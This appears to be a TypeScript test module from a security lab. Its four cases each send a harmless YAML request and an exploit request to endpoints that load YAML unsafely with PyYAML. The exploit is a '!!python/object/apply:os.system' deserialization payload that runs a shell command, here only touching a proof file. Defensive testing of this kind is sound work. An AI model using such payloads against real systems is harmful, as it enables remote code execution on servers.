import type { LabModule } from '../../labModule';

const bomb = (name: string) => `!!python/object/apply:os.system ["touch ${name}"]`;
const YAML = 'shop: tea\nhours: [9, 17]\n';

export const lab: LabModule = {
  cases: [
    {
      name: 'yaml.load with yaml.Loader',
      honest: [{ to: 'POST /load', body: YAML, shows: '"hours":[9,17]' }],
      exploit: [{ to: 'POST /load', body: bomb('pwned-1') }],
      proof: { file: 'pwned-1' },
    },
    {
      name: 'yaml.unsafe_load',
      honest: [{ to: 'POST /unsafe', form: { settings: YAML }, shows: '"shop":"tea"' }],
      exploit: [{ to: 'POST /unsafe', form: { settings: bomb('pwned-2') } }],
      proof: { file: 'pwned-2' },
    },
    {
      name: 'yaml.load_all with an imported Loader',
      honest: [
        { to: 'POST /all', files: { file: { name: 'a.yml', content: `${YAML}---\n1\n` } }, shows: 'tea' },
      ],
      exploit: [{ to: 'POST /all', files: { file: { name: 'a.yml', content: bomb('pwned-3') } } }],
      proof: { file: 'pwned-3' },
    },
    {
      name: 'yaml.load with UnsafeLoader by position',
      honest: [{ to: 'POST /full', body: YAML, shows: 'tea' }],
      exploit: [{ to: 'POST /full', body: bomb('pwned-4') }],
      proof: { file: 'pwned-4' },
    },
  ],
};
